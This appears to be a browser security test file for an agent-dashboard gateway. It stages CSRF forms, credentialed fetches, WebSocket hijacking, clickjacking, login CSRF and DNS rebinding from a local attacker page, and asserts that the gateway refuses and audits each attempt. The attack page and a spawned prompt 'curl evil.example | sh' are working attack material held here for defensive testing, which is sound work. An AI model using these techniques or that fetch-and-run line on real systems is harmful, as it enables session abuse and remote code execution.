// The attack issue 11 opens with, in a real headless Chromium: an operator signed in to the
// dashboard (holding its SameSite=Strict session cookie) opens a page of an attacker on another
// origin of the same site (http://127.0.0.1:<other port>, or localhost: ports do not count for
// SameSite, so the browser DOES send the cookie and only the gateway's Origin checks stand in the
// way). The page tries cross-origin form POSTs, credentialed fetches, a graphql-ws WebSocket and
// framing the dashboard and GraphiQL; nothing may be spawned or read, and the refusals are
// audited; nor may it swap the operator's session for one of its own token (login CSRF through
// `?token=`). Then a DNS-rebinding page (a foreign host name resolving to the gateway) gets 421. Last,
// the dashboard's own sign-in: panel, wrong and right token, `?token=` refused, sign-out, and a
// revoked token bringing the panel back while the page is open.
import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import WebSocket from "ws";
import { startAppHarness, type AppHarness } from "../helpers/app-harness.js";
import { waitFor } from "../helpers/fleet-harness.js";
import { onCleanup } from "../helpers/cleanup.js";
import { CHROMIUM, ensureDashboardBuilt, launchChromium, watchErrors } from "../dashboard/support.js";

/** Host name the rebinding page uses; Chromium resolves it to the gateway's loopback address. */
const REBIND_HOST = "rebind.example.com";

/** A prompt of the victim's fleet: it must never reach the attacker. */
const SECRET_PROMPT = "the victim's secret prompt 7f3a9c";

let browser: Browser;
let h: AppHarness;
let attacker: AttackerServer;
let context: BrowserContext | undefined;

/** The attacker's own web server: serves its page and receives what the page "stole". */
interface AttackerServer {
  port: number;
  /** Bodies POSTed to /report by the attacker's page. */
  reports: string[];
  /** Set the page served at /attack.html. */
  setPage(html: string): void;
  close(): Promise<void>;
}

async function startAttacker(): Promise<AttackerServer> {
  let page = "<!doctype html><title>nothing yet</title>";
  const reports: string[] = [];
  const server = http.createServer((req, res) => {
    if (req.method === "POST" && req.url === "/report") {
      let body = "";
      req.setEncoding("utf8");
      req.on("data", (d: string) => (body += d));
      req.on("end", () => {
        reports.push(body);
        res.writeHead(204).end();
      });
      return;
    }
    if (req.url?.startsWith("/attack.html")) {
      res
        .writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
        .end(page);
      return;
    }
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as AddressInfo).port,
    reports,
    setPage: (html) => (page = html),
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

beforeAll(async () => {
  ensureDashboardBuilt();
  [browser, h, attacker] = await Promise.all([launchChromium(), startAppHarness(), startAttacker()]);
  const r = await h.gql<{ spawnAgent: { __typename: string } }>(
    `mutation($p: String!) { spawnAgent(input: { workspace: "demo", prompt: $p }) { __typename } }`,
    { p: SECRET_PROMPT },
  );
  expect(r.data?.spawnAgent.__typename).toBe("SpawnAgentPayload");
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await attacker?.close();
  await h?.close();
});

afterEach(async () => {
  await context?.close();
  context = undefined;
});

async function newContext(): Promise<BrowserContext> {
  const c = await browser.newContext({ viewport: { width: 1200, height: 800 } });
  c.setDefaultTimeout(20_000);
  context = c;
  return c;
}

const agentCount = () => h.app.db.prisma.agent.count();

interface AuditRow {
  operation: string;
  result: string;
  remoteAddress: string | null;
  denied: boolean;
  tokenName: string | null;
}

/** Audit rows at or after `since`, oldest first. */
async function auditSince(since: Date): Promise<AuditRow[]> {
  const r = await h.gql<{ auditLog: { edges: { node: AuditRow }[] } }>(
    `query($since: DateTime) { auditLog(first: 500, filter: { since: $since }) { edges { node { operation result remoteAddress denied tokenName } } } }`,
    { since: since.toISOString() },
  );
  if (!r.data) throw new Error(JSON.stringify(r));
  return r.data.auditLog.edges.map((e) => e.node).reverse();
}

const SPAWN_MUTATION = `mutation { spawnAgent(input: { workspace: "demo", prompt: "attacker: curl evil.example | sh" }) { __typename } }`;
const READ_QUERY = "{ agents { edges { node { spec { prompt } } } } }";

/**
 * The attacker's page: every attack in turn, each result recorded in `window.__results`, then all of
 * it POSTed to the attacker's own server (what a real page would exfiltrate).
 */
function attackPage(gateway: string, ownOrigin: string): string {
  const wsUrl = `${gateway.replace(/^http/, "ws")}/graphql`;
  const js = String.raw`
const GW = ${JSON.stringify(gateway)};
const WS_URL = ${JSON.stringify(wsUrl)};
const SPAWN = ${JSON.stringify(SPAWN_MUTATION)};
const READ = ${JSON.stringify(READ_QUERY)};
const results = {};
window.__results = results;
const settle = (ms) => new Promise((r) => setTimeout(r, ms));

function submitForm(name, enctype, fields) {
  return new Promise((resolve) => {
    const sink = document.createElement("iframe");
    sink.name = "sink-" + name;
    document.body.appendChild(sink);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = enctype;
    form.action = GW + "/graphql";
    form.target = sink.name;
    for (const [k, v] of fields) {
      const input = document.createElement("input");
      input.type = "hidden";
      input.name = k;
      input.value = v;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    let done = false;
    const finish = (loaded) => {
      if (done) return;
      done = true;
      let readable = null;
      try { readable = sink.contentDocument ? sink.contentDocument.body.innerText : null; } catch (e) { readable = null; }
      resolve({ loaded, readable });
    };
    sink.addEventListener("load", () => finish(true));
    setTimeout(() => finish(false), 5000);
    form.submit();
  });
}

async function tryFetch(url, init) {
  try {
    const res = await fetch(url, init);
    let text = null;
    try { text = await res.text(); } catch (e) { text = null; }
    return { status: res.status, type: res.type, text };
  } catch (e) {
    return { error: String(e) };
  }
}

function tryWebSocket() {
  return new Promise((resolve) => {
    const out = { opened: false, messages: [], close: null, error: false };
    let ws;
    try { ws = new WebSocket(WS_URL, "graphql-transport-ws"); } catch (e) { out.thrown = String(e); resolve(out); return; }
    ws.onopen = () => {
      out.opened = true;
      ws.send(JSON.stringify({ type: "connection_init", payload: {} }));
    };
    ws.onmessage = (m) => {
      out.messages.push(String(m.data));
      const msg = JSON.parse(String(m.data));
      if (msg.type === "connection_ack") {
        ws.send(JSON.stringify({ id: "1", type: "subscribe", payload: { query: "subscription { fleetChanges { __typename } }" } }));
        ws.send(JSON.stringify({ id: "2", type: "subscribe", payload: { query: SPAWN } }));
      }
    };
    ws.onerror = () => { out.error = true; };
    ws.onclose = (e) => { out.close = e.code; resolve(out); };
    setTimeout(() => resolve(out), 5000);
  });
}

function frame(name, src) {
  return new Promise((resolve) => {
    const f = document.createElement("iframe");
    f.name = name;
    f.src = src;
    let done = false;
    const finish = (loaded) => {
      if (done) return;
      done = true;
      let readable = null;
      try { readable = f.contentDocument ? f.contentDocument.documentElement.outerHTML : null; } catch (e) { readable = null; }
      resolve({ loaded, readable });
    };
    f.addEventListener("load", () => finish(true));
    setTimeout(() => finish(false), 5000);
    document.body.appendChild(f);
  });
}

function load(tag, src) {
  return new Promise((resolve) => {
    const el = document.createElement(tag);
    el.onload = () => resolve("load");
    el.onerror = () => resolve("error");
    el.src = src;
    document.body.appendChild(el);
    setTimeout(() => resolve("timeout"), 5000);
  });
}

(async () => {
  // (a), (b): classic CSRF forms, auto-submitted.
  results.formUrlencoded = await submitForm("urlencoded", "application/x-www-form-urlencoded", [["query", SPAWN]]);
  results.formMultipart = await submitForm("multipart", "multipart/form-data", [["query", SPAWN]]);
  // text/plain: name + "=" + value makes the body valid JSON: {"query":"...","x":"="}
  results.formTextPlain = await submitForm("textplain", "text/plain", [[ '{"query":' + JSON.stringify(SPAWN) + ',"x":"', '"}' ]]);
  // (c): credentialed fetches, with and without a preflight.
  const json = (query) => JSON.stringify({ query });
  results.fetchSpawnJson = await tryFetch(GW + "/graphql", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: json(SPAWN) });
  results.fetchReadJson = await tryFetch(GW + "/graphql", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: json(READ) });
  results.fetchSpawnNoCors = await tryFetch(GW + "/graphql", { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: json(SPAWN) });
  results.fetchReadGet = await tryFetch(GW + "/graphql?query=" + encodeURIComponent(READ), { credentials: "include" });
  // GET subresources carry the cookie but no Origin.
  results.scriptRead = await load("script", GW + "/graphql?query=" + encodeURIComponent(READ));
  results.imgSpawn = await load("img", GW + "/graphql?query=" + encodeURIComponent(SPAWN));
  // (d): cross-site WebSocket hijacking.
  results.webSocket = await tryWebSocket();
  // (e): clickjacking: the dashboard and GraphiQL in frames.
  results.frameDashboard = await frame("dashboard", GW + "/");
  results.frameGraphiQL = await frame("graphiql", GW + "/graphql");
  await settle(300);
  await fetch(${JSON.stringify(ownOrigin)} + "/report", { method: "POST", body: JSON.stringify(results) });
  window.__done = true;
})();
`;
  return `<!doctype html><html><head><meta charset="utf-8"><title>cute cats</title></head><body><h1>cute cats</h1><script>${js}</script></body></html>`;
}

interface FetchResult {
  status?: number;
  type?: string;
  text?: string | null;
  error?: string;
}
interface FrameResult {
  loaded: boolean;
  readable: string | null;
}
interface AttackResults {
  formUrlencoded: FrameResult;
  formMultipart: FrameResult;
  formTextPlain: FrameResult;
  fetchSpawnJson: FetchResult;
  fetchReadJson: FetchResult;
  fetchSpawnNoCors: FetchResult;
  fetchReadGet: FetchResult;
  scriptRead: string;
  imgSpawn: string;
  webSocket: { opened: boolean; messages: string[]; close: number | null; error: boolean };
  frameDashboard: FrameResult;
  frameGraphiQL: FrameResult;
}

/** Sign a fresh context in at `gateway` as an operator would (the logged URL with the token). */
async function signedInVictim(gateway: string): Promise<{ ctx: BrowserContext; dashboard: Page }> {
  const ctx = await newContext();
  const dashboard = await ctx.newPage();
  await dashboard.goto(`${gateway}/?token=${encodeURIComponent(h.token)}`);
  await dashboard.getByRole("status").filter({ hasText: "Live" }).waitFor();
  const cookies = await ctx.cookies(gateway);
  expect(cookies.map((c) => [c.name, c.sameSite])).toEqual([[h.app.gateway.cookieName, "Strict"]]);
  return { ctx, dashboard };
}

describe("an attacker page in the operator's browser", { timeout: 60_000 }, () => {
  it.each(["127.0.0.1", "localhost"])(
    "on http://%s:<other port> (same site: the session cookie is sent) spawns nothing and reads nothing",
    async (host) => {
      const gateway = `http://${host}:${h.app.gateway.port}`;
      const own = `http://${host}:${attacker.port}`;
      const { ctx } = await signedInVictim(gateway);
      const before = await agentCount();
      const since = new Date();
      attacker.reports.length = 0;
      attacker.setPage(attackPage(gateway, own));

      const page = await ctx.newPage();
      const consoleText: string[] = [];
      page.on("console", (m) => consoleText.push(m.text()));
      // Which requests reached the gateway, and whether the browser attached the session cookie.
      const sent: { method: string; url: string; cookie: boolean }[] = [];
      page.on("request", (req) => {
        if (!req.url().startsWith(gateway)) return;
        void req.allHeaders().then((headers) =>
          sent.push({
            method: req.method(),
            url: req.url(),
            cookie: (headers["cookie"] ?? "").includes(`${h.app.gateway.cookieName}=`),
          }),
        );
      });
      await page.goto(`${own}/attack.html`);
      await page.waitForFunction(() => (window as { __done?: boolean }).__done === true, null, {
        timeout: 45_000,
      });
      const results = (await page.evaluate(
        () => (window as { __results?: unknown }).__results,
      )) as AttackResults;

      // The browser really did send the victim's cookie with the forged forms: only the gateway's
      // own checks stopped them.
      const formPosts = sent.filter((s) => s.method === "POST" && s.url === `${gateway}/graphql`);
      expect(formPosts.length).toBeGreaterThanOrEqual(3);
      expect(formPosts.filter((s) => s.cookie).length).toBeGreaterThanOrEqual(3);

      // (a), (b) forms: submitted (the frame loaded the refusal), unreadable to the page.
      for (const f of [results.formUrlencoded, results.formMultipart, results.formTextPlain]) {
        expect(f).toEqual({ loaded: true, readable: null });
      }
      // (c) fetches: the preflighted ones fail, the no-cors one is opaque, the GET fails CORS.
      expect(results.fetchSpawnJson.error).toMatch(/TypeError/);
      expect(results.fetchReadJson.error).toMatch(/TypeError/);
      expect(results.fetchSpawnNoCors).toEqual({ status: 0, type: "opaque", text: "" });
      expect(results.fetchReadGet.error).toMatch(/TypeError/);
      expect(results.scriptRead).toBe("error");
      expect(results.imgSpawn).toBe("error");
      // (d) WebSocket: refused at the upgrade, never acknowledged.
      expect(results.webSocket.opened).toBe(false);
      expect(results.webSocket.messages).toEqual([]);
      expect(results.webSocket.close).toBe(1006);
      // (e) frames: refused by frame-ancestors 'none' (Chromium says so), nothing rendered or readable.
      expect(results.frameDashboard.readable).toBeNull();
      expect(results.frameGraphiQL.readable).toBeNull();
      const refusedFrames = consoleText.filter((t) =>
        /^Framing '.*' violates the following Content Security Policy directive: "frame-ancestors 'none'"/.test(
          t,
        ),
      );
      expect(refusedFrames).toHaveLength(2);
      for (const t of refusedFrames) expect(t).toContain(`'${gateway}/'`);
      for (const name of ["dashboard", "graphiql"]) {
        const f = page.frame({ name });
        expect(f?.url(), name).toBe("chrome-error://chromewebdata/");
        expect(await f!.locator("#connection, .graphiql-container, #graphiql").count()).toBe(0);
      }
      // ...and they asked for the signed-in dashboard and GraphiQL, with the cookie.
      expect(sent).toEqual(
        expect.arrayContaining([
          { method: "GET", url: `${gateway}/`, cookie: true },
          { method: "GET", url: `${gateway}/graphql`, cookie: true },
        ]),
      );

      // Nothing spawned; nothing of the fleet reached the attacker's server.
      await new Promise((r) => setTimeout(r, 300));
      expect(await agentCount()).toBe(before);
      expect(
        h.app.fleet.state.agentsOf("demo").some((a) => JSON.stringify(a.spec).includes("attacker")),
      ).toBe(false);
      await waitFor(() => attacker.reports.length === 1, 5_000, "the attacker page's report");
      expect(attacker.reports[0]).not.toContain(SECRET_PROMPT);
      expect(attacker.reports[0]).not.toContain('spawnAgent":{');

      // Audited: the refused HTTP requests and the WebSocket, from the browser's address, no token.
      const rows = await auditSince(since);
      const denied = rows.filter((r) => r.denied);
      // 3 forms, 2 preflights of the JSON fetches, the no-cors POST and the CORS GET.
      expect(denied.filter((r) => r.operation === "http" && r.result === "FORBIDDEN_ORIGIN")).toHaveLength(7);
      expect(
        denied.filter((r) => r.operation === "websocket" && r.result === "FORBIDDEN_ORIGIN"),
      ).toHaveLength(1);
      // The <script> and <img> GETs carried the cookie but no Origin: refused as cookie misuse.
      expect(denied.filter((r) => r.operation === "http" && r.result === "FORBIDDEN")).toHaveLength(2);
      expect(denied).toHaveLength(10);
      for (const r of denied) {
        expect(r.remoteAddress).toBe("127.0.0.1");
        expect(r.tokenName).toBeNull();
      }
      expect(rows.some((r) => r.operation === "spawnAgent")).toBe(false);
    },
  );

  it("cannot swap the operator's session for one of its own (login CSRF through ?token=)", async () => {
    // The attacker holds a token of this gateway (say a colleague's viewer token). If a foreign page
    // can make the browser exchange it, the operator's dashboard silently runs as the attacker: what
    // they type (prompts) goes out under the attacker's name, and the session they had is gone.
    // sessions.ts states the rule for /auth/session ("a foreign page may not log a browser into a
    // session of its choosing"); the ?token= exchange must keep it too (it can tell a URL opened by
    // the operator, `Sec-Fetch-Site: none`, from a navigation started by another site's page).
    const theirs = await h.createToken({ name: "attacker-viewer", role: "VIEWER" });
    const gateway = `http://127.0.0.1:${h.app.gateway.port}`;
    const { ctx, dashboard } = await signedInVictim(gateway);
    await expect(dashboard.locator("#whoami-name").textContent()).resolves.toBe("admin (admin)");
    const [before] = await ctx.cookies(gateway);
    const own = `http://127.0.0.1:${attacker.port}`;
    attacker.setPage(
      `<!doctype html><title>cute cats</title><iframe src="${gateway}/?token=${encodeURIComponent(theirs)}"></iframe>` +
        `<script>setTimeout(() => { location.href = ${JSON.stringify(`${gateway}/?token=${encodeURIComponent(theirs)}`)}; }, 500);</script>`,
    );
    const page = await ctx.newPage();
    await page.goto(`${own}/attack.html`);
    await page.waitForURL(`${gateway}/`);
    await dashboard.reload();
    await expect.poll(() => dashboard.getByRole("status").textContent()).toBe("Live");
    await expect(dashboard.locator("#whoami-name").textContent()).resolves.toBe("admin (admin)");
    const [after] = await ctx.cookies(gateway);
    expect(after?.value).toBe(before?.value);
  });

  it("a DNS-rebinding page (a foreign name resolving to the gateway) gets 421 for the page, the API and the WebSocket", async () => {
    const port = h.app.gateway.port;
    const origin = `http://${REBIND_HOST}:${port}`;
    // A browser where the attacker's name resolves to the gateway's address. Chromium's own Local
    // Network Access checks would refuse a public page's requests to loopback; other browsers have
    // none, so they are off here: the gateway's Host check must hold by itself.
    const rebindBrowser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        `--host-resolver-rules=MAP ${REBIND_HOST} 127.0.0.1`,
        "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks",
      ],
    });
    onCleanup(() => rebindBrowser.close());
    const page = await rebindBrowser.newPage();
    // The attacker's page as DNS first served it; then the name points at the gateway (127.0.0.1).
    await page.route(`${origin}/attack.html`, (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<!doctype html><title>rebind</title><script>
          window.__run = async () => {
            const out = {};
            const read = async (p, init) => {
              try { const r = await fetch(p, init); return { status: r.status, text: await r.text() }; }
              catch (e) { return { error: String(e) }; }
            };
            out.page = await read("/");
            out.api = await read("/graphql", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: ${JSON.stringify(READ_QUERY)} }) });
            out.ws = await new Promise((resolve) => {
              const ws = new WebSocket("ws://" + location.host + "/graphql", "graphql-transport-ws");
              ws.onopen = () => resolve("open");
              ws.onclose = (e) => resolve(e.code);
            });
            return out;
          };
        </script>`,
      }),
    );
    await page.goto(`${origin}/attack.html`);
    const out = (await page.evaluate(() => (window as { __run?: () => Promise<unknown> }).__run!())) as {
      page: FetchResult;
      api: FetchResult;
      ws: number | "open";
    };
    expect(out.page.status).toBe(421);
    expect(out.api.status).toBe(421);
    expect(out.api.text).toMatch(/unknown Host/);
    expect(out.api.text).not.toContain(SECRET_PROMPT);
    expect(out.ws).toBe(1006);

    // The same without a browser: a raw request and upgrade naming a foreign Host.
    const raw = await new Promise<number>((resolve, reject) => {
      const req = http.request(
        {
          host: "127.0.0.1",
          port,
          path: "/graphql",
          method: "POST",
          headers: {
            host: `${REBIND_HOST}:${port}`,
            "content-type": "application/json",
            authorization: `Bearer ${h.token}`,
          },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on("error", reject);
      req.end(JSON.stringify({ query: READ_QUERY }));
    });
    expect(raw).toBe(421);
    const upgraded = await new Promise<number | "open">((resolve, reject) => {
      const ws = new WebSocket(`ws://127.0.0.1:${port}/graphql`, "graphql-transport-ws", {
        headers: { host: `${REBIND_HOST}:${port}`, authorization: `Bearer ${h.token}` },
      });
      ws.on("open", () => {
        ws.terminate();
        resolve("open");
      });
      ws.on("unexpected-response", (_req, res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      ws.on("error", reject);
    });
    expect(upgraded).toBe(421);
  });
});

describe("the dashboard's sign-in", { timeout: 60_000 }, () => {
  /**
   * The page's errors, except what a signed-out page expects: the 401 answers of the gateway (a
   * response, not a failed request), and the sign-in/sign-out POST cut short by the reload the
   * dashboard does as soon as it has the answer.
   */
  function unexpectedErrors(errors: string[]): string[] {
    return errors.filter(
      (e) =>
        !/^console: Failed to load resource: the server responded with a status of 401 \(Unauthorized\)$/.test(
          e,
        ) && !/^requestfailed: http:\/\/[^/]+\/auth\/(session|logout) net::ERR_ABORTED$/.test(e),
    );
  }

  async function signInPanelShown(page: Page): Promise<void> {
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    await expect.poll(() => page.getByRole("status").textContent()).toBe("Signed out");
    await expect(page.locator("#main").isHidden()).resolves.toBe(true);
    await expect(page.locator('article[data-workspace="demo"]:visible').count()).resolves.toBe(0);
  }

  it("no token: the panel; a wrong token: the error; the right one: the live fleet; sign out: the panel again", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    const errors = watchErrors(page);
    await page.goto(`${h.url}/`);
    await signInPanelShown(page);
    await expect(page.getByRole("alert").filter({ hasText: /./ }).count()).resolves.toBe(0);

    await page.getByLabel("Token").fill("prospero_this-is-not-a-token");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect
      .poll(() => page.locator("#sign-in-error").textContent())
      .toBe("That token was not accepted (unknown, expired or revoked).");
    expect(await ctx.cookies()).toEqual([]);

    await page.getByLabel("Token").fill(h.token);
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => page.getByRole("status").textContent()).toBe("Live");
    await page.locator('article[data-workspace="demo"]').getByText("healthy").waitFor();
    await expect(page.locator("#sign-in").isHidden()).resolves.toBe(true);
    const [cookie] = await ctx.cookies();
    expect(cookie).toMatchObject({ name: h.app.gateway.cookieName, httpOnly: true, sameSite: "Strict" });

    await page.getByRole("button", { name: "Sign out" }).click();
    await signInPanelShown(page);
    expect(await ctx.cookies()).toEqual([]);
    // The session ended at the gateway too: its old cookie no longer works from the page's origin.
    const stale = await fetch(`${h.url}/graphql`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        origin: h.url,
        cookie: `${cookie!.name}=${cookie!.value}`,
      },
      body: JSON.stringify({ query: "{ viewer { name } }" }),
    });
    expect(stale.status).toBe(401);
    expect(unexpectedErrors(errors)).toEqual([]);
  });

  it("?token=bad: the token leaves the address bar, the panel says it was not accepted, no cookie", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    const errors = watchErrors(page);
    await page.goto(`${h.url}/?token=bad-token-from-a-link#/agent/000000000000`);
    await signInPanelShown(page);
    await expect
      .poll(() => page.locator("#sign-in-error").textContent())
      .toBe("That token was not accepted (unknown, expired or revoked).");
    expect(page.url()).toBe(`${h.url}/#/agent/000000000000`);
    expect(await ctx.cookies()).toEqual([]);
    expect(unexpectedErrors(errors)).toEqual([]);
  });

  it("revoking the page's token while it is open brings the sign-in panel back (WebSocket closed 4401)", async () => {
    const secret = await h.createToken({ name: "browser-revoke", role: "VIEWER" });
    const ctx = await newContext();
    const page = await ctx.newPage();
    const errors = watchErrors(page);
    // Relay the page's WebSocket to see the close code the gateway sends.
    const serverCloses: number[] = [];
    await page.routeWebSocket(/\/graphql$/, (ws) => {
      const server = ws.connectToServer();
      server.onClose((code, reason) => {
        if (code !== undefined) serverCloses.push(code);
        void ws.close({ code, reason });
      });
    });
    await page.goto(`${h.url}/?token=${encodeURIComponent(secret)}`);
    await expect.poll(() => page.getByRole("status").textContent()).toBe("Live");
    await expect(page.locator("#whoami-name").textContent()).resolves.toBe("browser-revoke (viewer)");

    const r = await h.gql<{ revokeToken: { __typename: string } }>(
      `mutation { revokeToken(input: { token: "browser-revoke" }) { __typename } }`,
    );
    expect(r.data?.revokeToken.__typename).toBe("RevokeTokenPayload");
    await signInPanelShown(page);
    await expect(page.locator("#sign-in-error").textContent()).resolves.toMatch(
      /^Signed out by the gateway: .*revoked/i,
    );
    expect(serverCloses).toEqual([4401]);
    // It does not reconnect by itself.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await expect(page.getByRole("status").textContent()).resolves.toBe("Signed out");
    expect(unexpectedErrors(errors)).toEqual([]);
  });
});
